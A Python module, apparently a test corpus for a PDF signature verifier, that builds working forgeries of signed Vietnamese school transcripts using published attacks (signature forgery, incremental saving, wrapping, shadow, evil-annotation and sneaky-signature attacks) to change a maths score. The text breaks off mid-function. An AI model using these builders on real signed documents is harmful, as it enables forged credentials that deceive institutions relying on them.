"""Attacks on issued học bạ số: the corpus that ``test_verify_attacks.py`` runs the verifier on.

Every builder starts from the bytes of a genuinely issued transcript (``DATA/out/*.pdf``) and
returns the attacked bytes; a few also need a second genuine file, the demo's data directory
(its keys and TSA) or a directory for a foreign PKI. The attacks come from three papers:

- Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund: How To
  Spoof PDF Signatures", ACM CCS 2019 (USF, ISA, SWA);
- Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed
  PDFs", NDSS 2021 (hide, replace, hide-and-replace);
- Rohlmann, Mladenov, Mainka, Schwenk, "Breaking the Specification: PDF Certification",
  IEEE S&P 2021 (evil annotation attack EAA, sneaky signature attack SSA).

An issued file has six revisions (``docs/formats.md`` §15.1): the page, then the GVCN,
HieuTruong (``/P 2``) and DauTruong (``/Lock /All``, ``/P 1``) approval signatures, the DSS
and the document time-stamp. Byte-level builders edit the raw file (each signature's
ByteRange and ``/Contents`` are found by hand, like ``docs/transcripts.md`` §4 shows) and
write incremental updates with their own xref section; object-level builders use pyHanko's
``IncrementalPdfFileWriter``, which writes a regular incremental update (what an editor
would). pyHanko is used here only to *build* attacks, never to judge them.

Where an attack changes what a reader shows, it changes one score: the first number after
the subject "Toán" on the page (see :func:`find_score`), e.g. ``2.6`` becomes ``9.6``.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from pyhanko.pdf_utils import generic as _generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

__all__ = [
    "APPROVALS",
    "BYTE_LEVEL",
    "OBJECT_LEVEL",
    "USF_VARIANTS",
    "Score",
    "SignatureSpan",
    "append_revision",
    "attachments_of",
    "eaa_annotation",
    "extra_document_timestamp",
    "find_score",
    "foreign_ca",
    "hybrid_xref",
    "isa_after_eof_no_xref",
    "isa_new_revision",
    "isa_trailing_garbage",
    "isa_xref_without_trailer",
    "recycled_signature",
    "resigned_with_changed_score",
    "shadow_form_field",
    "shadow_hide",
    "shadow_hide_and_replace",
    "shadow_replace_font",
    "signatures",
    "ssa_signed",
    "ssa_unsigned",
    "swa",
    "usf",
]

#: pyHanko's object model (untyped), used through ``Any``.
generic: Any = _generic

APPROVALS = ("GVCN", "HieuTruong", "DauTruong")
#: The subject whose first score the visible attacks change.
SUBJECT = "Toán"
_SCORE = re.compile(r"\d{1,2}\.\d")


# -- reading the genuine file -----------------------------------------------------------------


def _reader(pdf: bytes) -> PdfFileReader:
    return PdfFileReader(io.BytesIO(pdf), strict=False)


_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


@dataclass(frozen=True)
class SignatureSpan:
    """Where one signature dictionary's ByteRange and /Contents sit in the raw file."""

    field: str
    byte_range: tuple[int, int, int, int]
    byte_range_span: tuple[int, int]
    """Offsets of ``/ByteRange [...]`` (the key through ``]``)."""
    padding: int
    """Spaces pyHanko left after the ``]`` (room for a longer ByteRange)."""
    contents_key: int
    """Offset of the ``/Contents`` key."""

    @property
    def gap(self) -> tuple[int, int]:
        """The unsigned hex string ``<…>``: from ``b`` to ``c`` (ISO 32000-1 §12.8.1)."""
        _a, b, c, _d = self.byte_range
        return b, c

    @property
    def end(self) -> int:
        """Where the signed revision ends (``c + d``)."""
        _a, _b, c, d = self.byte_range
        return c + d


def signatures(pdf: bytes) -> dict[str, SignatureSpan]:
    """Every signature of a genuine file by field name, located in the raw bytes.

    The ByteRange of each signature dictionary is found by a regular expression and named
    by matching its values with pyHanko's list of signature fields; the ``/Contents`` hex
    string is the one the ByteRange leaves out.
    """
    names = {
        tuple(s.byte_range): s.field_name
        for s in _reader(pdf).embedded_signatures  # regular signatures and time-stamps
    }
    out: dict[str, SignatureSpan] = {}
    for m in _BYTE_RANGE.finditer(pdf):
        values = tuple(int(v) for v in m.groups())
        assert len(values) == 4
        a, b, c, d = values
        name = names[(a, b, c, d)]
        assert pdf[b : b + 1] == b"<" and pdf[c - 1 : c] == b">", name
        key = pdf.rindex(b"/Contents", 0, b)
        spaces = re.compile(rb" *").match(pdf, m.end())
        assert spaces is not None
        padding = spaces.end() - m.end()
        out[name] = SignatureSpan(name, (a, b, c, d), (m.start(), m.end()), padding, key)
    return out


def _last_startxref(pdf: bytes) -> int:
    m = list(re.finditer(rb"startxref\s+(\d+)\s+%%EOF", pdf))[-1]
    return int(m.group(1))


def _trailer(pdf: bytes) -> dict[str, Any]:
    """``/Size``, ``/Root`` (object number) and ``/ID`` (hex) of the file's last trailer."""
    trailer = _reader(pdf).trailer_view
    ids = re.findall(rb"/ID\s*\[\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*\]", pdf)[-1]
    return {
        "size": int(trailer["/Size"]),
        "root": trailer.raw_get("/Root").idnum,
        "id": b"[<%s> <%s>]" % ids,
    }


def attachments_of(pdf: bytes) -> dict[str, bytes]:
    """The embedded files of a transcript by name (decoded stream bytes)."""
    root = _reader(pdf).root
    names = root["/Names"]["/EmbeddedFiles"]["/Names"]
    out = {}
    for i in range(0, len(names), 2):
        spec = names[i + 1].get_object()
        out[str(names[i])] = spec["/EF"]["/F"].get_object().data
    return out


# -- the score on the page --------------------------------------------------------------------


_ESCAPES = {
    ord("n"): b"\n",
    ord("r"): b"\r",
    ord("t"): b"\t",
    ord("b"): b"\b",
    ord("f"): b"\f",
    ord("("): b"(",
    ord(")"): b")",
    ord("\\"): b"\\",
}


def _unescape(literal: bytes) -> bytes:
    """The bytes of a PDF literal string without its parentheses (ISO 32000-1 §7.3.4.2)."""
    out = bytearray()
    i = 0
    while i < len(literal):
        c = literal[i]
        if c != 0x5C:
            out.append(c)
            i += 1
            continue
        nxt = literal[i + 1]
        if nxt in _ESCAPES:
            out += _ESCAPES[nxt]
            i += 2
        elif 0x30 <= nxt <= 0x37:
            digits = re.match(rb"[0-7]{1,3}", literal[i + 1 : i + 4])
            assert digits is not None
            out.append(int(digits.group(), 8) & 0xFF)
            i += 1 + len(digits.group())
        elif nxt in (0x0A, 0x0D):  # a backslash before an end of line continues the string
            i += 3 if literal[i + 1 : i + 3] == b"\r\n" else 2
        else:
            out.append(nxt)
            i += 2
    return bytes(out)


def _escape(raw: bytes) -> bytes:
    """A PDF literal string, parentheses included, that is balanced whatever ``raw`` holds."""
    return b"(" + re.sub(rb"([()\\])", rb"\\\1", raw).replace(b"\r", b"\\r") + b")"


def _cmap(to_unicode: bytes) -> dict[bytes, str]:
    """CID (2 bytes) -> text of a ToUnicode CMap (``bfchar`` and ``bfrange`` entries)."""
    out: dict[bytes, str] = {}
    for block in re.findall(rb"beginbfchar(.*?)endbfchar", to_unicode, re.S):
        for src, dst in re.findall(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
            out[bytes.fromhex(src.decode())] = bytes.fromhex(dst.decode()).decode("utf-16-be")
    for block in re.findall(rb"beginbfrange(.*?)endbfrange", to_unicode, re.S):
        for lo, hi, dst in re.findall(
            rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block
        ):
            first, base = int(lo, 16), int(dst, 16)
            for cid in range(first, int(hi, 16) + 1):
                out[cid.to_bytes(2, "big")] = chr(base + cid - first)
    return out


_TEXT = re.compile(
    rb"/(?P<font>[A-Za-z0-9_.]+)\s+(?P<size>[\d.]+)\s+Tf"
    rb"|(?P<x>-?[\d.]+)\s+(?P<y>-?[\d.]+)\s+Td\s*(?P<lit>\((?:\\.|[^\\()])*\))\s*Tj",
    re.S,
)


@dataclass(frozen=True)
class Score:
    """One score shown on a page, and the same with its first digit changed."""

    page: int
    """0-based page index."""
    content: int
    """Object number of the page's content stream that shows it."""
    decoded: bytes
    """That content stream, decoded."""
    span: tuple[int, int]
    """Offsets of the literal string ``(…)`` in :attr:`decoded`."""
    font: str
    """Resource name of the font that shows it (``F1``…)."""
    descendant: int
    """Object number of that font's descendant CID font."""
    size: float
    x: float
    y: float
    """Font size and text position (``Td``) in page coordinates."""
    old: str
    new: str
    """The score as issued, and with its first digit changed (``2.6`` -> ``9.6``)."""
    old_cid: bytes
    new_cid: bytes
    """CIDs of the digit that changes and of the digit it becomes, in :attr:`font`."""
    literal: bytes
    """The literal string that shows :attr:`new`."""

    @property
    def forged(self) -> bytes:
        """The content stream with the score changed."""
        start, end = self.span
        return self.decoded[:start] + self.literal + self.decoded[end:]

    @property
    def rect(self) -> tuple[float, float, float, float]:
        """A box (x1, y1, x2, y2) around the score on the page."""
        return (self.x - 1, self.y - 0.3 * self.size, self.x + 2.2 * self.size, self.y + self.size)


def find_score(pdf: bytes) -> Score:
    """The first score after the subject :data:`SUBJECT` on the pages of ``pdf``.

    The page is fpdf2's: ``/Fn size Tf`` then ``BT x y Td (…) Tj ET`` with 2-byte CIDs
    (Identity-H) in each literal; each font's ToUnicode CMap turns CIDs into text.
    """
    reader = _reader(pdf)
    for index, page_ref in enumerate(reader.root["/Pages"]["/Kids"]):
        page = page_ref.get_object()
        fonts = page["/Resources"]["/Font"]
        maps = {}
        for name in fonts:
            maps[name[1:]] = _cmap(fonts[name]["/ToUnicode"].data)
        content_ref = page.raw_get("/Contents")
        assert isinstance(content_ref, generic.IndirectObject), "one content stream per page"
        decoded = content_ref.get_object().data
        font, size, seen_subject = "", 0.0, False
        for m in _TEXT.finditer(decoded):
            if m.group("font"):
                font, size = m.group("font").decode(), float(m.group("size"))
                continue
            raw = _unescape(m.group("lit")[1:-1])
            cids = [raw[i : i + 2] for i in range(0, len(raw), 2)]
            text = "".join(maps[font].get(cid, "\ufffd") for cid in cids)
            if text == SUBJECT:
                seen_subject = True
            elif seen_subject and _SCORE.fullmatch(text):
                inverse = {v: k for k, v in maps[font].items()}
                wanted = "9" if text[0] != "9" else "8"
                new = wanted + text[1:]
                new_raw = b"".join(inverse[ch] for ch in new)
                descendant = fonts[f"/{font}"]["/DescendantFonts"].raw_get(0)
                return Score(
                    page=index,
                    content=content_ref.idnum,
                    decoded=decoded,
                    span=m.span("lit"),
                    font=font,
                    descendant=descendant.idnum,
                    size=size,
                    x=float(m.group("x")),
                    y=float(m.group("y")),
                    old=text,
                    new=new,
                    old_cid=inverse[text[0]],
                    new_cid=inverse[wanted],
                    literal=_escape(new_raw),
                )
    raise AssertionError(f"no score after {SUBJECT!r} on any page")


def _overlay(score: Score, *, origin: tuple[float, float] = (0.0, 0.0)) -> bytes:
    """Drawing that covers the score with white and writes the forged one in its place.

    ``origin`` is subtracted from the page coordinates (for a form XObject whose BBox
    starts at the score's box).
    """
    x1, y1, x2, y2 = score.rect
    ox, oy = origin
    return b"q 1 g %.2f %.2f %.2f %.2f re f Q\nBT /%s %.2f Tf 0 g %.2f %.2f Td %s Tj ET\n" % (
        x1 - ox,
        y1 - oy,
        x2 - x1,
        y2 - y1,
        score.font.encode(),
        score.size,
        score.x - ox,
        score.y - oy,
        score.literal,
    )


# -- writing incremental updates by hand ------------------------------------------------------


def _stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(body), extra, body)


def _xref_table(offsets: Mapping[int, int]) -> bytes:
    """A classic xref section (ISO 32000-1 §7.5.4): object 0 free, then one run per range."""
    out = [b"xref\n0 1\n0000000000 65535 f \n"]
    numbers = sorted(offsets)
    i = 0
    while i < len(numbers):
        j = i
        while j + 1 < len(numbers) and numbers[j + 1] == numbers[j] + 1:
            j += 1
        out.append(b"%d %d\n" % (numbers[i], j - i + 1))
        out += [b"%010d 00000 n \n" % offsets[n] for n in numbers[i : j + 1]]
        i = j + 1
    return b"".join(out)


def _objects(base: int, objects: Mapping[int, bytes]) -> tuple[bytes, dict[int, int]]:
    """Object bodies written from offset ``base``, and where each begins."""
    body = bytearray()
    offsets = {}
    for number in sorted(objects):
        offsets[number] = base + len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    return bytes(body), offsets


def append_revision(
    pdf: bytes,
    objects: Mapping[int, bytes],
    *,
    xref: bool = True,
    trailer: bool = True,
) -> bytes:
    """``pdf`` with an incremental update (ISO 32000-1 §7.5.6) defining ``objects``.

    By default a complete update: the objects, an xref section, a trailer with ``/Prev``
    pointing at the previous xref and the same ``/Root`` and ``/ID``, ``startxref`` and
    ``%%EOF``. ``xref=False`` appends the bare objects; ``trailer=False`` stops after
    the xref section (the file's ``startxref`` still points at the old one).
    """
    info = _trailer(pdf)
    prev = _last_startxref(pdf)
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    body, offsets = _objects(len(out), objects)
    out += body
    if not xref:
        return bytes(out)
    at = len(out)
    out += _xref_table(offsets)
    if not trailer:
        return bytes(out)
    size = max(info["size"], max(objects) + 1)
    out += b"trailer\n<< /Size %d /Root %d 0 R /ID %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        info["root"],
        info["id"],
        prev,
        at,
    )
    return bytes(out)


def _replace(pdf: bytes, start: int, end: int, new: bytes) -> bytes:
    """``pdf`` with ``pdf[start:end]`` replaced by ``new`` padded with spaces to its length."""
    assert len(new) <= end - start, (new, end - start)
    return pdf[:start] + new.ljust(end - start, b" ") + pdf[end:]


# -- 1. Universal signature forgery (Mladenov et al. 2019) ------------------------------------

USF_VARIANTS = (
    "contents-empty",
    "contents-zero",
    "contents-removed",
    "byterange-empty",
    "byterange-zero",
    "byterange-removed",
    "byterange-partial",
)


def usf(pdf: bytes, field: str, variant: str) -> bytes:
    """Universal signature forgery: the signature of ``field`` made unusable in place.

    USF feeds a validator a signature dictionary without usable values, hoping it shows
    the signature as valid instead of failing (Mladenov et al. 2019):
    ``/Contents`` emptied (``<>``), zeroed (same length of ``0`` digits) or removed, or
    ``/ByteRange`` emptied (``[]``), zeroed (``[0 0 0 0]``), removed, or pointing at only
    part of the signed revision (the second range stops 1000 bytes short). Every edit keeps
    the length (spaces pad), so all offsets and every xref stay valid.
    """
    sig = signatures(pdf)[field]
    b, c = sig.gap
    a0, b0, c0, d0 = sig.byte_range
    br_start, br_end = sig.byte_range_span
    br_end += sig.padding  # pyHanko's padding belongs to the entry's room
    if variant == "contents-empty":
        return _replace(pdf, b, c, b"<>")
    if variant == "contents-zero":
        return pdf[: b + 1] + b"0" * (c - b - 2) + pdf[c - 1 :]
    if variant == "contents-removed":
        return _replace(pdf, sig.contents_key, c, b"")
    if variant == "byterange-empty":
        return _replace(pdf, br_start, br_end, b"/ByteRange []")
    if variant == "byterange-zero":
        return _replace(pdf, br_start, br_end, b"/ByteRange [0 0 0 0]")
    if variant == "byterange-removed":
        return _replace(pdf, br_start, br_end, b"")
    if variant == "byterange-partial":
        return _replace(
            pdf, br_start, br_end, b"/ByteRange [%d %d %d %d]" % (a0, b0, c0, d0 - 1000)
        )
    raise ValueError(f"unknown USF variant {variant!r}")


# -- 2. Incremental saving attacks (Mladenov et al. 2019) -------------------------------------


def _forged_content(score: Score) -> bytes:
    return _stream(score.forged)


def isa_new_revision(pdf: bytes) -> bytes:
    """ISA variant 1: a complete incremental update after the last revision.

    Redefines the page's content stream object (same number) with the score changed,
    with a proper xref section and a trailer whose ``/Prev`` points at the previous xref.
    Every signature and the document time-stamp still cover their own revisions intact;
    only the lock (``/P 1``) and the coverage of the file tell that something was added.
    """
    score = find_score(pdf)
    return append_revision(pdf, {score.content: _forged_content(score)})


def isa_after_eof_no_xref(pdf: bytes) -> bytes:
    """ISA variant 2: the forged content object appended after ``%%EOF``, without an xref.

    A reader that follows the xref chain never sees it; one that repairs the file by
    scanning for ``N 0 obj`` takes the last definition (Mladenov et al. 2019: some
    viewers parse objects that no xref lists).
    """
    score = find_score(pdf)
    return append_revision(pdf, {score.content: _forged_content(score)}, xref=False)


def isa_xref_without_trailer(pdf: bytes) -> bytes:
    """ISA variant 3: forged object and an xref section, but no trailer or ``startxref``.

    The last ``startxref`` still points at the genuine xref; a reader that looks for the
    last ``xref`` keyword instead uses the attacker's section.
    """
    score = find_score(pdf)
    return append_revision(pdf, {score.content: _forged_content(score)}, trailer=False)


def isa_trailing_garbage(pdf: bytes) -> bytes:
    """Bytes after the final ``%%EOF`` that no signature and no xref covers.

    ISO 32000-1 §7.5.5 ends the file at ``%%EOF``; readers tolerate some bytes after it,
    which is where ISA variants hide their payload (Mladenov et al. 2019).
    """
    return pdf + b"% not part of the issued file\n" + bytes(range(256)) + b"\n"


# -- 3. Signature wrapping (Mladenov et al. 2019) ---------------------------------------------


def _xref_entries(pdf: bytes, at: int) -> dict[int, int]:
    """In-use entries (number -> offset) of the classic xref section at offset ``at``."""
    m = re.compile(rb"xref\s*\n").match(pdf, at)
    assert m is not None, "a classic xref section"
    pos = m.end()
    out = {}
    while True:
        head = re.compile(rb"(\d+) (\d+)\s*\n").match(pdf, pos)
        if head is None:
            break
        first, count = int(head.group(1)), int(head.group(2))
        pos = head.end()
        for k in range(count):
            entry = pdf[pos : pos + 20]
            if entry[17:18] == b"n":
                out[first + k] = int(entry[:10])
            pos += 20
    return out


def swa(pdf: bytes, *, rewrite_byte_range: bool = True) -> bytes:
    """Signature wrapping on the last signature (the document time-stamp).

    The classic construction (Mladenov et al. 2019): the signed ``startxref``
    at the end of the last signed revision names offset ``S`` of that revision's xref. The
    attacker inserts ``Δ`` bytes right after the ``/Contents`` hex string, which moves the
    second signed range (``c … c+d``, the rest of the signature dictionary, the xref, the
    trailer and the ``startxref S``) to ``c+Δ``, and places a new xref at exactly ``S``
    inside the inserted bytes: it lists the same objects as the genuine section, plus the
    page's content stream redefined with a changed score (written after it). A reader that
    follows ``startxref`` now reads the attacker's xref. The inserted bytes are wrapped as a
    literal string value (``/SWA (…)``) of the signature dictionary, so the dictionary still
    parses. The original CMS bytes stay where they were.

    Not byte-exact against this layout: pyHanko writes ``/Contents`` before ``/ByteRange``,
    so the ByteRange text itself lies in the second signed range. Moving that range means
    either rewriting its ``c`` (``rewrite_byte_range=True``: the ByteRange becomes
    ``[0 b c+Δ d]`` and names the moved range, but its own text is signed) or keeping the
    values (``False``: the ByteRange then names the inserted bytes instead of the signed
    ones). Either way the signed digest no longer matches; this is the closest variant. It
    does work on a reader: poppler follows the signed ``startxref`` into the attacker's
    section and renders the forged score, and qpdf reads the file without a warning.
    """
    spans = signatures(pdf)
    last = max(spans.values(), key=lambda s: s.end)
    assert last.end == len(pdf), "the last signature covers the end of the file"
    a, b, c, d = last.byte_range
    signed_xref = _last_startxref(pdf)
    assert c < signed_xref < c + d
    score = find_score(pdf)
    entries = _xref_entries(pdf, signed_xref)
    info = _trailer(pdf)
    prev = int(re.findall(rb"/Prev\s+(\d+)", pdf[signed_xref:])[-1])
    prefix = b"/SWA ("
    pad = signed_xref - c - len(prefix)
    assert pad >= 0
    # The attacker's section at S, then the forged object; the offsets are known in advance
    # because an xref entry has a fixed width.
    probe = dict(entries)
    probe[score.content] = 0
    tail = b"trailer\n<< /Size %d /Root %d 0 R /ID %s /Prev %d >>\n" % (
        info["size"],
        info["root"],
        info["id"],
        prev,
    )
    objects_at = signed_xref + len(_xref_table(probe)) + len(tail)
    body, offsets = _objects(objects_at, {score.content: _forged_content(score)})
    delta = len(prefix) + pad + len(_xref_table(probe)) + len(tail) + len(body) + 1  # ")"
    moved = {n: (off + delta if off >= c else off) for n, off in entries.items()}
    moved.update(offsets)
    inserted = prefix + b" " * pad + _xref_table(moved) + tail + body + b")"
    assert len(inserted) == delta
    _check_balanced(inserted[len(prefix) - 1 :])
    second = pdf[c:]
    if rewrite_byte_range:
        br_start, br_end = last.byte_range_span
        br_start, br_end = br_start - c, br_end - c + last.padding
        second = _replace(
            second, br_start, br_end, b"/ByteRange [%d %d %d %d]" % (a, b, c + delta, d)
        )
    return pdf[:c] + inserted + second


def _check_balanced(literal: bytes) -> None:
    """Assert that ``literal`` (from its ``(``) is one PDF literal string (§7.3.4.2)."""
    depth, i = 0, 0
    while i < len(literal):
        ch = literal[i]
        if ch == 0x5C:
            i += 2
            continue
        depth += {0x28: 1, 0x29: -1}.get(ch, 0)
        if depth == 0:
            assert i == len(literal) - 1, "the wrapper ends early"
        i += 1
    assert depth == 0


# -- 4. Shadow attacks (Mainka et al. 2021) ---------------------------------------------------


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter, index: int) -> tuple[Any, Any]:
    ref = writer.root["/Pages"].raw_get("/Kids")
    kids = ref.get_object() if isinstance(ref, generic.IndirectObject) else ref
    page_ref = kids.raw_get(index)
    return page_ref, page_ref.get_object()


def _font_ref(page: Any, name: str) -> Any:
    return page["/Resources"]["/Font"].raw_get(f"/{name}")


def _form_xobject(score: Score, page: Any) -> generic.StreamObject:
    """A form XObject over the score's box that covers it and draws the forged score."""
    x1, y1, x2, y2 = score.rect
    stream = generic.StreamObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
            generic.pdf_name("/BBox"): generic.ArrayObject(
                [generic.FloatObject(v) for v in (0, 0, x2 - x1, y2 - y1)]
            ),
            generic.pdf_name("/Resources"): generic.DictionaryObject(
                {
                    generic.pdf_name("/Font"): generic.DictionaryObject(
                        {generic.pdf_name(f"/{score.font}"): _font_ref(page, score.font)}
                    )
                }
            ),
        },
        stream_data=_overlay(score, origin=(x1, y1)),
    )
    return stream


def shadow_hide(pdf: bytes) -> bytes:
    """Shadow attack "hide" (Mainka et al. 2021): an overlay object over a score.

    A new revision adds a form XObject to the page's resources and a second content stream
    that paints it over the score: a white box hiding the genuine value with the forged
    one on top. The original content stream is untouched; only the page dictionary (its
    ``/Contents`` now an array, its ``/Resources`` one XObject richer) and two new objects
    change.
    """
    score = find_score(pdf)
    w = _writer(pdf)
    _page_ref, page = _page(w, score.page)
    xobject = w.add_object(_form_xobject(score, page))
    x1, y1, _x2, _y2 = score.rect
    painter = w.add_object(
        generic.StreamObject(stream_data=b"q 1 0 0 1 %.2f %.2f cm /Shadow Do Q\n" % (x1, y1))
    )
    resources = page["/Resources"]
    resources = resources.get_object() if hasattr(resources, "get_object") else resources
    xobjects = generic.DictionaryObject(resources.get("/XObject", {}))
    xobjects[generic.pdf_name("/Shadow")] = xobject
    resources[generic.pdf_name("/XObject")] = xobjects
    page[generic.pdf_name("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), painter])
    w.update_container(resources)
    w.update_container(page)
    return _written(w)


def shadow_replace_font(pdf: bytes) -> bytes:
    """Shadow attack "replace" (Mainka et al. 2021), via a font.

    The content stream stays byte for byte; a new revision redefines the CID font of the
    score's text with a ``/CIDToGIDMap`` that draws the glyph of the forged digit for the
    CID of the genuine one (the font was ``/Identity``). Every occurrence of that digit in
    that font changes on the rendered page; copied text (ToUnicode) does not.
    """
    score = find_score(pdf)
    w = _writer(pdf)
    _page_ref, page = _page(w, score.page)
    descendant = page["/Resources"]["/Font"][f"/{score.font}"]["/DescendantFonts"][0]
    assert descendant.container_ref.idnum == score.descendant
    current = descendant["/CIDToGIDMap"] if "/CIDToGIDMap" in descendant else None
    if isinstance(current, generic.StreamObject):
        table = bytearray(current.data)
    else:  # /Identity: GID = CID for every CID the cmap names
        table = bytearray(b"".join(cid.to_bytes(2, "big") for cid in range(65536)))
    old = 2 * int.from_bytes(score.old_cid, "big")
    new = 2 * int.from_bytes(score.new_cid, "big")
    table[old : old + 2] = table[new : new + 2]
    descendant[generic.pdf_name("/CIDToGIDMap")] = w.add_object(
        generic.StreamObject(stream_data=bytes(table))
    )
    w.update_container(descendant)
    return _written(w)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Shadow attack "hide-and-replace" (Mainka et al. 2021): the whole page replaced.

    A new revision points the page's ``/Contents`` at a new content stream: the genuine one
    with the score changed. The old stream stays in the file, unused.
    """
    score = find_score(pdf)
    w = _writer(pdf)
    _page_ref, page = _page(w, score.page)
    page[generic.pdf_name("/Contents")] = w.add_object(
        generic.StreamObject(stream_data=score.forged)
    )
    w.update_container(page)
    return _written(w)


def _annotation(
    w: IncrementalPdfFileWriter, score: Score, page_ref: Any, page: Any, extra: dict[str, Any]
) -> Any:
    x1, y1, x2, y2 = score.rect
    appearance = w.add_object(_form_xobject(score, page))
    annot = generic.DictionaryObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
            generic.pdf_name("/Rect"): generic.ArrayObject(
                [generic.FloatObject(v) for v in (x1, y1, x2, y2)]
            ),
            generic.pdf_name("/F"): generic.NumberObject(4),  # Print
            generic.pdf_name("/P"): page_ref,
            generic.pdf_name("/AP"): generic.DictionaryObject({generic.pdf_name("/N"): appearance}),
        }
    )
    annot.update({generic.pdf_name(k): v for k, v in extra.items()})
    ref = w.add_object(annot)
    annots = page.get("/Annots")
    page[generic.pdf_name("/Annots")] = generic.ArrayObject(
        [*(annots.get_object() if annots is not None else []), ref]
    )
    w.update_container(page)
    return ref


def _add_field(w: IncrementalPdfFileWriter, ref: Any) -> None:
    acroform = w.root["/AcroForm"]
    acroform[generic.pdf_name("/Fields")] = generic.ArrayObject([*acroform["/Fields"], ref])
    w.update_container(acroform)


def shadow_form_field(pdf: bytes) -> bytes:
    """Shadow attack with an overlay form field filled after signing (Mainka et al. 2021).

    A new revision adds a text field (``/FT /Tx``) whose widget sits over the score, with
    the forged value as ``/V`` and an opaque appearance that shows it.
    """
    score = find_score(pdf)
    w = _writer(pdf)
    page_ref, page = _page(w, score.page)
    ref = _annotation(
        w,
        score,
        page_ref,
        page,
        {
            "/Subtype": generic.pdf_name("/Widget"),
            "/FT": generic.pdf_name("/Tx"),
            "/T": generic.TextStringObject("Diem"),
            "/V": generic.TextStringObject(score.new),
            "/DA": generic.TextStringObject(f"/{score.font} {score.size:g} Tf 0 g"),
        },
    )
    _add_field(w, ref)
    return _written(w)


# -- 5. Evil annotation and sneaky signature attacks (Rohlmann et al. 2021) -------------------


def eaa_annotation(pdf: bytes, subtype: str = "FreeText") -> bytes:
    """Evil annotation attack (Rohlmann et al. 2021): an annotation after the lock.

    A new revision after the document time-stamp adds a ``FreeText`` (or ``Stamp``)
    annotation over the score whose appearance hides the genuine value and shows the
    forged one. The seal's lock (``/P 1``) allows no annotation.
    """
    score = find_score(pdf)
    w = _writer(pdf)
    page_ref, page = _page(w, score.page)
    extra: dict[str, Any] = {
        "/Subtype": generic.pdf_name(f"/{subtype}"),
        "/Contents": generic.TextStringObject(score.new),
    }
    if subtype == "FreeText":
        extra["/DA"] = generic.TextStringObject(f"/{score.font} {score.size:g} Tf 0 g")
    _annotation(w, score, page_ref, page, extra)
    return _written(w)


def ssa_unsigned(pdf: bytes) -> bytes:
    """Sneaky signature attack, unsigned (Rohlmann et al. 2021).

    A new revision adds a signature field (``/FT /Sig``, no ``/V``) whose widget appearance
    draws over the score: readers show signature fields' appearances like any other.
    """
    score = find_score(pdf)
    w = _writer(pdf)
    page_ref, page = _page(w, score.page)
    ref = _annotation(
        w,
        score,
        page_ref,
        page,
        {
            "/Subtype": generic.pdf_name("/Widget"),
            "/FT": generic.pdf_name("/Sig"),
            "/T": generic.TextStringObject("Sneaky"),
        },
    )
    _add_field(w, ref)
    return _written(w)


def ssa_signed(pdf: bytes, data_dir: Path, staff_code: str) -> bytes:
    """Sneaky signature attack, signed by an insider (Rohlmann et al. 2021).

    A staff member of the same school (a genuine, trusted demo certificate, but not one of
    the transcript's signers) signs a new field over the score after the lock; the
    signature's appearance writes the forged score there. The signature itself is valid.
    """
    from projections.issuance import SigningKit
    from signing import pades

    kit = SigningKit.load(data_dir, [])
    score = find_score(pdf)
    x1, y1, x2, y2 = score.rect
    request = pades.SignatureRequest(
        field_name="Sneaky",
        signer=kit.pki.signer_for(staff_code),
        chain=(kit.pki.school, kit.pki.so),
        page=score.page,
        box=(int(x1), int(y1) - 6, int(x2) + 40, int(y2) + 6),
        lines=(score.new,),
        font=kit.font_for((score.new,)),
    )
    return pades.sign(pdf, request, timestamper=kit.timestamper)


# -- 6. A recycled signature ------------------------------------------------------------------


def _der_hex(pdf: bytes, sig: SignatureSpan) -> bytes:
    """The CMS of ``sig`` as hex, without the zero padding (X.690 §8.1.3 length)."""
    b, c = sig.gap
    der = bytes.fromhex(pdf[b + 1 : c - 1].decode())
    n = der[1]
    size = 2 + n if n < 0x80 else 2 + (n & 0x7F) + int.from_bytes(der[2 : 2 + (n & 0x7F)], "big")
    return der[:size].hex().upper().encode()


def recycled_signature(donor: bytes, target: bytes, field: str) -> bytes:
    """``target`` with the CMS signature of ``field`` taken from ``donor`` (another transcript).

    The donor's signature is genuine, made by the same kind of signer of the same school,
    with its time-stamp; it is pasted into the target's ``/Contents`` and zero-padded to the
    target's reserved length, so the structure stays byte-compatible.
    """
    hex_ = _der_hex(donor, signatures(donor)[field])
    sig = signatures(target)[field]
    b, c = sig.gap
    assert len(hex_) <= c - b - 2, "the donor's CMS fits the target's reserved space"
    return target[: b + 1] + hex_.ljust(c - b - 2, b"0") + target[c - 1 :]


# -- 7. Hybrid-reference edit -----------------------------------------------------------------


def hybrid_xref(pdf: bytes) -> bytes:
    """An incremental update whose change only a reader of hybrid files sees.

    ISO 32000-1 §7.5.8.4: a classic trailer may name an xref stream in ``/XRefStm``; a
    PDF 1.5 reader looks an object up in the classic section, then in that stream, then
    in ``/Prev``. Here the classic section lists nothing, and the stream redefines the page's
